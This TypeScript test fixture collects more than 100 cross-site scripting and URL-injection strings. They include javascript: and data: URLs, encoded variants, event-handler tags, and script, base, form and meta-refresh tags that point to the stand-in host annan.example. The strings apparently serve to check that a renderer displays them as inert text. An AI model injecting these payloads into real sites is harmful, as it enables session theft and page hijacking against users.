const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
];
const moreSchemes = [
  'vbscript:msgbox(1)',
  'blob:https://x/1',
  'file:///etc/passwd',
  'http://annan.example/',
  '//annan.example/',
  'tel:*%2321%23',
];
const entities = [
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\u003cscript\\u003e',
];
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationend',
  'onpointerdown',
];
const elements = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'math',
  'iframe src=x',
  'a href=x',
];
const whole = [
  '<script>alert(1)</script>',
  '<script src=//annan.example/x.js></script>',
  '</div><script>alert(1)</script>',
  '<base href=//annan.example/>',
  '<form action=//annan.example/><button>x</button></form>',
  '<link rel=stylesheet href=//annan.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//annan.example/">',
  '<style>@import "//annan.example/x.css"</style>',
  '[x](javascript:alert(1))',
  '![x](//annan.example/x.png)',
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\u202e<gmi>',
  '"><img src=//annan.example/x.png>',
];

/** Addresses that lead no resident anywhere good. */
export const badAddresses: readonly string[] = [...schemes, ...moreSchemes, ...entities, ...whole];

/** More than 100 texts that a browser must show as text and nothing else. */
export const payloads: readonly string[] = [
  ...badAddresses,
  ...elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=alert(1)>`)),
];
